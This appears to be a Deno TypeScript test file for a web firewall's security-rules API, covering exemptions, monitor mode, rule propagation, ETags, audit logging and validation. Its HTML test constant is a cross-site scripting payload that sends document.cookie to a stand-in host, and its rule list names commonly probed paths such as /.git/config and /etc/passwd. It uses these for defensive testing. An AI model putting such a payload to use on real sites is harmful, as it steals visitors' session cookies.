import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { SECOND } from "../../src/time.ts";
import { createTestClock } from "../_clock.ts";
import { createFaultKv } from "../_fault_kv.ts";
import { codeOf, type IdentityApp, itemsOf, openIdentityApp } from "./_identity_app.ts";

const PATH = "/api/v1/security/rules";
const HTML = "<p>Hi</p><script>document.location='//x.example/'+document.cookie</script>";

/** Sends a form to the site, each time from another address, as two attacks would block one. */
function createSender(app: IdentityApp) {
  let count = 0;
  return (path: string, form: Readonly<Record<string, string>>, token?: string) =>
    app.post(path, {
      form,
      token,
      from: `198.51.100.${++count}`,
      headers: { "x-gatehouse-explain": "1" },
    });
}

const FREE_TEXT = { method: "POST", path: "/us/pages/*", mode: "enforce", exempt: ["body_html"] };

Deno.test("PUT /api/v1/security/rules lets an exempted field pass, and no other", async () => {
  await using app = await openIdentityApp();
  const { token } = await app.person("admin");
  const send = createSender(app);
  assertEquals(codeOf(await send("/us/pages/1", { body_html: HTML })), "REQUEST_BLOCKED");
  const put = await app.send("PUT", PATH, { token, json: { rules: [FREE_TEXT] } });
  assertEquals([put.status, put.json()], [200, {
    version: 1,
    rules: [FREE_TEXT],
    configured: [],
  }]);
  assertEquals((await send("/us/pages/1", { body_html: HTML })).status, 404);
  assertEquals(codeOf(await send("/us/pages/1", { title: HTML })), "REQUEST_BLOCKED");
  assertEquals(codeOf(await send("/us/other", { body_html: HTML })), "REQUEST_BLOCKED");
});

Deno.test("PUT /api/v1/security/rules in mode monitor lets pass, tells the score, notes the event", async () => {
  await using app = await openIdentityApp();
  const { token } = await app.person("admin");
  const rules = [{ path: "/us/search/*", mode: "monitor" }];
  await app.send("PUT", PATH, { token, json: { rules } });
  const passed = await createSender(app)("/us/search/x", { q: HTML }, token);
  assertEquals(passed.status, 404);
  assert(Number(passed.headers.get("x-risk-score")) > 0.8);
  await app.services.incidents.flush();
  const events = itemsOf(await app.get("/api/v1/security/events/", { token }));
  assertEquals(events.map(({ type, action, path }) => [type, action, path]), [
    ["threat", "monitor", "/us/search/x"],
  ]);
});

Deno.test("PUT /api/v1/security/rules is followed by another isolate within 5 s", async () => {
  const over = await Deno.openKv(":memory:");
  {
    const clock = createTestClock();
    await using one = await openIdentityApp({ clock, rawKv: await createFaultKv({ over }) });
    await using other = await openIdentityApp({ clock, rawKv: await createFaultKv({ over }) });
    const { token } = await one.person("admin");
    const send = createSender(other);
    assertEquals(codeOf(await send("/us/pages/1", { body_html: HTML })), "REQUEST_BLOCKED");
    await one.send("PUT", PATH, { token, json: { rules: [FREE_TEXT] } });
    clock.turn(5 * SECOND + 1);
    assertEquals((await send("/us/pages/1", { body_html: HTML })).status, 404);
  }
  over.close();
});

Deno.test("GET /api/v1/security/rules shows the configured rules, and its ETag guards a PUT", async () => {
  await using app = await openIdentityApp({
    env: { THREAT_RULES: "POST /pages/*=monitor:body_html" },
  });
  const { token } = await app.person("admin");
  const first = await app.get(PATH, { token });
  assertEquals(first.json(), {
    version: 0,
    rules: [],
    configured: [{ method: "POST", path: "/pages/*", mode: "monitor", exempt: ["body_html"] }],
  });
  const put = (headers: Record<string, string>, version?: number) =>
    app.send("PUT", PATH, { token, headers, json: { version, rules: [] } });
  const headers = { "if-match": first.headers.get("etag") ?? "" };
  assertEquals((await put(headers)).status, 200);
  assertEquals(codeOf(await put(headers)), "PRECONDITION_FAILED");
  assertEquals(codeOf(await put({}, 0)), "CONFLICT");
});

Deno.test("PUT /api/v1/security/rules is an act in the audit log, and takes paths that attacks use", async () => {
  await using app = await openIdentityApp();
  const { id, token } = await app.person("admin");
  const rules = [
    { path: "/wp-admin/*", mode: "off" },
    { path: "/.git/config", mode: "off" },
    { path: "/etc/passwd", mode: "off" },
  ];
  assertEquals((await app.send("PUT", PATH, { token, json: { rules } })).status, 200);
  const [act] = itemsOf(await app.get("/api/v1/auth/audit/", { token }));
  assertEquals([act.action, act.by, act.details], ["threat_rules.replace", id, {
    version: 1,
    rules: 3,
  }]);
});

Deno.test("PUT /api/v1/security/rules says what is wrong, and refuses the 201st", async () => {
  await using app = await openIdentityApp();
  const { token } = await app.person("admin");
  const put = (rules: unknown) => app.send("PUT", PATH, { token, json: { rules } });
  const wrong = await put([{ path: "/a" }, { path: "pages" }]);
  assertEquals(codeOf(wrong), "VALIDATION_FAILED");
  assertStringIncludes(wrong.text, "/rules/1/path");
  const many = Array.from({ length: 201 }, (_, at) => ({ path: `/${at}` }));
  assertEquals(codeOf(await put(many)), "VALIDATION_FAILED");
  assertEquals((await put(many.slice(1))).status, 200);
});
